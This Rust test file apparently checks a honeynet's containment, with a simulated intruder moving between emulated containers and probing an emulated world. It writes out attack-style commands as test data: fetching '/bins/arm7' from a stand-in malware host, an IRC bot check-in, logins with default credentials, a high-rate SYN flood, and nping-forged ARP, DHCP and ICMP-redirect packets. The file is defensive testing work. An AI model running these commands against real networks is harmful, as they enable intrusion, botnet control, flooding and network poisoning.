//! What an intruder meets who goes on from a container: a world that is made up, and a port that lets nothing out.

use std::time::{Duration, Instant};

use serde_json::Value;

use crate::isolation::{on_the_wire, server, with_policy};
use crate::lab::Lab;
use crate::net::wait_for;
use crate::shell::{shell, ssh};

/// Shells behind a router, on the way to a world that is made up.
fn worm(template: &str) -> String {
    format!(
        r#"
name: worm
templates:
  shell:
    personality: linux
    vendor: vmware
    tcp: {{22: container}}
    backend: {{image: tools, start: on-access, idle: 10m}}
    {template}
  desktop: {{personality: windows, vendor: dell, tcp: {{445: open}}}}
images:
  tools: {{recipe: small, packages: [nmap, iperf3, tcpdump], users: [{{name: root, password: toor}}]}}
nodes:
  wan: {{kind: uplink}}
  edge: {{kind: router, interfaces: {{wan: [192.0.2.1/24], servers: [10.10.0.1/24], staff: [10.20.0.1/24]}}}}
  core: {{kind: switch, ports: 4}}
  shells: {{kind: hosts, addresses: 10.10.0.20-10.10.0.27, template: shell}}
  desktops: {{kind: hosts, addresses: 10.10.0.100-10.10.0.119, template: desktop}}
  staff: {{kind: hosts, addresses: 10.20.0.20-10.20.0.27, template: shell}}
links:
  - endpoints: [wan, "edge:wan"]
  - endpoints: ["edge:servers", "core:1"]
  - endpoints: [shells, "core:2"]
  - endpoints: [desktops, "core:3"]
  - endpoints: ["edge:staff", staff]
"#
    )
}

fn up(template: &str) -> Lab {
    let lab = Lab::up(&worm(template));
    lab.attacker_at("192.0.2.2/24", "192.0.2.1");
    lab
}

#[test]
fn the_world_that_an_intruder_calls_speaks_its_protocols() {
    let lab = up("outward: reflect");
    let mut watch =
        lab.attacker.spawn(&["tcpdump", "-i", "eth0", "-n", "-l", "--immediate-mode", "not", "host", "10.10.0.20"]);
    watch.wait_line("listening on");
    let inside = |command: &str| shell(&lab.attacker, "10.10.0.20", command);
    // Names are found by the name server that the container knows: its gateway.
    let found = inside("cat /etc/resolv.conf; nslookup drop.worm.example.net; nslookup -type=a drop.worm.example.net");
    assert!(found.contains("nameserver 10.10.0.1\n"), "{found}");
    let named: Vec<&str> = found.lines().filter_map(|line| line.strip_prefix("Address: ")).collect();
    assert!(named.len() >= 2 && named.iter().all(|address| *address == named[0]), "{found}");
    let address: std::net::Ipv4Addr = named[0].parse().expect("an IPv4 address");
    // The Internet has it, by name and by number.
    let page = inside("wget -q -O - http://drop.worm.example.net/");
    assert!(page.contains("Welcome to nginx!"), "{page}");
    let missing = ssh(&lab.attacker, "10.10.0.20", "wget -O - http://drop.worm.example.net:8080/bins/arm7");
    assert!(String::from_utf8_lossy(&missing.stderr).contains("404 Not Found"), "{missing:?}");
    let asked = lab.wait_event("service.request", |event| {
        event["text"].as_str().is_some_and(|text| text.starts_with("GET /bins/arm7 HTTP/1.1"))
    });
    assert_eq!(asked["dst"]["ip"], address.to_string(), "{asked}");
    let greeting = inside("nc -w 5 203.0.113.9 22 </dev/null | head -c 8");
    assert_eq!(greeting, "SSH-2.0-");
    let mail = inside("(sleep 1; printf 'EHLO me\\r\\nQUIT\\r\\n'; sleep 1) | nc -w 5 mx.example.net 25");
    assert!(mail.starts_with("220 ") && mail.contains("221 "), "{mail}");
    let chat = inside(
        "(printf 'NICK bot7\\r\\nUSER b 0 * :b\\r\\nJOIN #owned\\r\\nPRIVMSG #owned :ready\\r\\n'; sleep 1) \
         | nc -w 5 irc.worm.example.net 6667",
    );
    assert!(chat.contains(" 001 bot7 ") && chat.contains(" JOIN :#owned"), "{chat}");
    lab.wait_event("service.request", |event| event["text"] == "PRIVMSG #owned :ready");
    // Within TLS, through the intruder's tunnel.
    let forward = format!("127.0.0.1:8443:{address}:443");
    let options = ["-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-N", "-L", &forward];
    let tunnel = [&["sshpass", "-p", "toor", "ssh"][..], &options, &["root@10.10.0.20"]].concat();
    let _tunnel = lab.attacker.spawn(&tunnel);
    let page = wait_for("the page within TLS", || {
        let page = lab.attacker.run(&["curl", "-sk", "--max-time", "5", "https://127.0.0.1:8443/"]);
        page.status.success().then(|| String::from_utf8_lossy(&page.stdout).into_owned())
    });
    assert!(page.contains("Welcome to nginx!"), "{page}");
    let hello = lab.wait_event("tls.hello", |event| event["dst"]["ip"] == address.to_string());
    assert_eq!(hello["src"]["ip"], "10.10.0.20", "{hello}");
    // A path leads there.
    let trace = inside(&format!("traceroute -n -q 1 -w 2 {address}"));
    let hops: Vec<&str> = trace.lines().skip(1).filter_map(|line| line.split_whitespace().nth(1)).collect();
    assert!(hops.len() > 6 && hops[0] == "10.10.0.1" && !hops.contains(&"*"), "{trace}");
    // Of all that, the real world saw nothing.
    lab.attacker.sh(&["ping", "-c", "1", "-W", "2", "10.10.0.100"]);
    watch.wait_line("10.10.0.100 > 192.0.2.2: ICMP echo reply");
    let others: Vec<&String> = watch
        .said()
        .iter()
        .filter(|line| line.contains(" IP ") && !line.contains("10.10.0.100") && !line.contains("listening"))
        .collect();
    assert!(others.is_empty(), "{others:?}");
}

#[test]
fn a_spread_is_a_graph_of_sessions() {
    let lab = up("outward: reflect");
    let next = |host: &str, command: &str| {
        format!("DROPBEAR_PASSWORD=toor dbclient -y -y root@{host} '{command}' </dev/null 2>/dev/null")
    };
    // From the first host to the second, across a router to the third, and out from there.
    let last = next("10.20.0.21", "nc -w 2 203.0.113.9 4711 </dev/null; echo there").replace('\'', "\"");
    let said = shell(&lab.attacker, "10.10.0.20", &next("10.10.0.21", &last));
    assert_eq!(said, "there\n");
    let start = |ip: &str| lab.wait_event("container.start", |event| event["dst"]["ip"] == ip);
    let [first, second, third] = ["10.10.0.20", "10.10.0.21", "10.20.0.21"].map(start);
    assert_eq!(first["cause"], Value::Null, "the attacker came from outside: {first}");
    assert_eq!((&second["src"]["ip"], &second["cause"]), (&first["dst"]["ip"], &first["session"]), "{second}");
    assert_eq!((&third["src"]["ip"], &third["cause"]), (&second["dst"]["ip"], &second["session"]), "{third}");
    let out = lab.wait_event("outward.reflect", |event| event["dst"]["port"] == 4711);
    assert_eq!((&out["session"], &out["cause"]), (&third["session"], &third["session"]), "{out}");
    let open = lab.wait_event("tcp.open", |event| event["dst"]["port"] == 4711);
    assert_eq!(open["cause"], third["session"], "{open}");
    let close = lab.wait_event("tcp.close", |event| event["dst"]["port"] == 4711);
    assert_eq!(close["cause"], third["session"], "{close}");
    // Everything that came from a container says why, and nothing else does.
    // What emulated hosts answer comes from the same address across a router, but not from the container's MAC.
    let containers = [&first, &second, &third].map(|start| (&start["dst"]["ip"], &start["dst"]["mac"]));
    for event in lab.events() {
        let is_containers = containers.contains(&(&event["src"]["ip"], &event["src"]["mac"]));
        assert_eq!(!event["cause"].is_null(), is_containers, "{event}");
    }
}

#[test]
fn a_flood_from_inside_starves_nobody_by_itself() {
    let lab = Lab::up_alone(&worm("outward: reflect"));
    lab.attacker_at("192.0.2.2/24", "192.0.2.1");
    for host in ["10.10.0.20", "10.10.0.22"] {
        shell(&lab.attacker, host, "true");
    }
    let ping = || {
        let said = lab.attacker.sh(&["ping", "-q", "-c", "200", "-i", "0.01", "-W", "2", "10.10.0.100"]);
        assert!(said.contains(" 200 received"), "{said}");
        let times = said.rsplit(" = ").next().unwrap().split('/').map(|time| time.trim().to_owned());
        times.take(3).map(|time| time.parse().unwrap()).collect::<Vec<f64>>()
    };
    let quiet = ping();
    // Some hundred thousand SYNs to addresses all over, as fast as nmap writes them.
    let flood = "timeout 8 nmap -n -Pn -sS -T5 --min-rate 50000 --max-retries 0 -p 1-4000 8.0.0.0/27 >/dev/null; true";
    let login = ["sshpass", "-p", "toor", "ssh", "-T", "-o", "StrictHostKeyChecking=no", "-o"];
    let arguments = [&login[..], &["UserKnownHostsFile=/dev/null", "root@10.10.0.20", flood]].concat();
    let flooding = lab.attacker.spawn(&arguments);
    lab.wait_event("outward.reflect", |event| event["dst"]["ip"].as_str().is_some_and(|ip| ip.starts_with("8.0.0.")));
    let busy = ping();
    let begin = Instant::now();
    assert_eq!(shell(&lab.attacker, "10.10.0.22", "echo served"), "served\n");
    let (served, page) =
        (begin.elapsed(), shell(&lab.attacker, "10.10.0.22", "wget -q -O - http://a.example.com/ | wc -c"));
    assert!(page.trim().parse::<u32>().unwrap() > 100, "the neighbor's world is there, too: {page}");
    drop(flooding);
    println!("echo in ms (min/avg/max): quiet {quiet:?}, in the flood {busy:?}; a neighbor's shell: {served:?}");
    assert!(busy[1] < 20.0, "{busy:?}");
    assert!(served < Duration::from_secs(5), "{served:?}");
    // Flows are told one by one, then together.
    let counted = wait_for("flows that are told together", || {
        let flows: Vec<Value> = lab.events().into_iter().filter(|event| event["event"] == "outward.reflect").collect();
        let of_flood: Vec<u64> = flows
            .iter()
            .filter(|event| event["src"]["ip"] == "10.10.0.20")
            .map(|event| event["count"].as_u64().unwrap_or(1))
            .collect();
        let total: u64 = of_flood.iter().sum();
        (total > 1000).then_some((of_flood.len(), total))
    });
    println!("{counted:?} events, flows");
    assert!(counted.0 < 300, "{counted:?}");
}

#[test]
fn a_containers_rate_holds_inside_too_by_itself() {
    let lab = Lab::up_alone(&worm("outward: {policy: drop, rate: 20mbit}"));
    lab.attacker_at("192.0.2.2/24", "192.0.2.1");
    shell(&lab.attacker, "10.10.0.22", "setsid iperf3 -s -1 </dev/null >/dev/null 2>&1 &");
    let report = shell(&lab.attacker, "10.10.0.23", "iperf3 -c 10.10.0.22 -t 3 -J");
    let report: Value = serde_json::from_str(&report).unwrap();
    let rate = report["end"]["sum_received"]["bits_per_second"].as_f64().unwrap();
    println!("{} Mbit/s", rate / 1e6);
    assert!((1e6..24e6).contains(&rate), "{report}");
    let told = lab.wait_event("gate.block", |event| event["reason"] == "rate");
    assert_eq!(told["src"]["ip"], "10.10.0.23", "{told}");
}

#[test]
fn a_limit_lets_so_many_out() {
    let (lab, attacker) = with_policy("{policy: limit, tcp: {burst: 2, period: 1h}, icmp: {burst: 3, period: 1h}}");
    let fetch = "timeout 5 wget -q -O - http://198.51.100.7:8080/ || echo failed";
    for _ in 0..2 {
        let _server = server(&attacker);
        assert_eq!(shell(&attacker, "192.0.2.100", fetch), "real\n");
    }
    let _server = server(&attacker);
    assert_eq!(shell(&attacker, "192.0.2.100", fetch), "failed\n");
    let ping = ssh(&attacker, "192.0.2.100", "ping -c 5 -i 0.2 -W 1 198.51.100.7");
    assert!(String::from_utf8_lossy(&ping.stdout).contains("3 packets received"), "{ping:?}");
    for proto in ["tcp", "icmp"] {
        let told = lab.wait_event("outward.drop", |event| event["reason"] == "limit" && event["proto"] == proto);
        assert_eq!((&told["src"]["ip"], &told["dst"]["ip"]), (&"192.0.2.100".into(), &"198.51.100.7".into()), "{told}");
    }
    // Another container has a limit of its own.
    assert_eq!(shell(&attacker, "192.0.2.101", fetch), "real\n");
}

/// With all that nmap's own tool can write by hand, from a container that may reach the whole wire.
#[test]
fn lies_from_inside_reach_nobody_on_the_wire() {
    let mut lab = Lab::shared();
    let bob = lab.ns("bob");
    // A bridge with the attacker, a bystander and the honeynet's uplink.
    let hub = lab.ns("hub");
    lab.attacker.sh(&["ip", "link", "del", "eth0"]);
    lab.wire_between((&hub, "uplink"), (&lab.wire, "up0"));
    hub.sh(&["ip", "link", "add", "br0", "type", "bridge", "mcast_snooping", "0"]);
    for (ns, name, address) in [(&lab.attacker, "mallory", "192.0.2.2/24"), (&bob, "bob", "192.0.2.12/24")] {
        lab.wire_between((&hub, name), (ns, "eth0"));
        ns.addr("eth0", address);
        hub.sh(&["ip", "link", "set", name, "master", "br0"]);
    }
    lab.attacker.addr("eth0", "192.0.2.1/24");
    hub.sh(&["ip", "link", "set", "uplink", "master", "br0"]);
    hub.sh(&["ip", "link", "set", "br0", "up"]);
    lab.start(&on_the_wire("allow"));
    let inside = |command: &str| shell(&lab.attacker, "192.0.2.100", command);
    let own = inside("cat /sys/class/net/eth0/address");
    let own = own.trim();
    // Bob knows who has what.
    bob.sh(&["ping", "-c", "1", "-W", "2", "192.0.2.2"]);
    bob.sh(&["ping", "-c", "1", "-W", "2", "192.0.2.101"]);
    let known =
        |address: &str| bob.sh(&["ip", "neigh", "show", address]).split_whitespace().nth(4).unwrap_or("").to_owned();
    let (before, neighbor) = (known("192.0.2.2"), known("192.0.2.101"));
    let bobs = bob.sh(&["cat", "/sys/class/net/eth0/address"]);
    let bobs = bobs.trim();
    let mut watch = bob.spawn(&["tcpdump", "-i", "eth0", "-n", "-e", "-l", "--immediate-mode", "ether", "src", own]);
    watch.wait_line("listening on");
    let lies = [
        format!(
            "--arp --arp-type arp-reply --arp-sender-ip 192.0.2.2 --arp-sender-mac {own} --dest-mac {bobs} 192.0.2.12"
        ),
        format!(
            "--arp --arp-type arp-reply --arp-sender-ip 192.0.2.101 --arp-sender-mac {own} --dest-mac ff:ff:ff:ff:ff:ff 192.0.2.12"
        ),
        format!("--arp --arp-type arp --arp-sender-ip 192.0.2.2 --arp-sender-mac {own} 192.0.2.12"),
        format!("--udp -g 67 -p 68 --data-length 240 --dest-mac {bobs} 192.0.2.12"),
        "--udp -g 68 -p 67 --data-length 240 --dest-mac ff:ff:ff:ff:ff:ff 255.255.255.255".to_owned(),
        format!("--icmp --icmp-type 5 --icmp-redirect-addr 192.0.2.100 --dest-mac {bobs} 192.0.2.12"),
        format!("--tcp --flags syn -S 192.0.2.2 -p 80 --dest-mac {bobs} 192.0.2.12"),
        format!("--tcp --flags syn --source-mac 02:66:66:66:66:66 -p 80 --dest-mac {bobs} 192.0.2.12"),
    ];
    for lie in &lies {
        inside(&format!("nping -q -c 2 --delay 10ms -e eth0 {lie} >/dev/null 2>&1; true"));
    }
    for (reason, least) in [("neighbor", 6), ("dhcp", 2), ("redirect", 2), ("spoofed-source", 2), ("foreign-mac", 2)] {
        let counted = wait_for(reason, || {
            let counts =
                lab.events().into_iter().filter(|event| event["event"] == "gate.block" && event["reason"] == reason);
            let total: u64 = counts.map(|event| event["count"].as_u64().unwrap_or(1)).sum();
            (total >= least).then_some(total)
        });
        println!("{reason}: {counted}");
    }
    // What is honest passes, and comes last.
    inside("ping -c 1 -W 2 192.0.2.12");
    watch.wait_line("192.0.2.100 > 192.0.2.12: ICMP echo request");
    let dishonest = |line: &&String| {
        let arp = line.contains("ARP") && !line.contains("tell 192.0.2.100") && !line.contains("192.0.2.100 is-at");
        arp || line.contains(".67 >")
            || line.contains(".68 >")
            || line.contains("redirect")
            || line.contains("Flags [S]")
    };
    let seen: Vec<&String> = watch.said().iter().filter(|line| line.contains(own)).filter(dishonest).collect();
    assert!(seen.is_empty(), "{seen:?}");
    assert_eq!((known("192.0.2.2"), known("192.0.2.101")), (before, neighbor), "bob's cache is as it was");
}
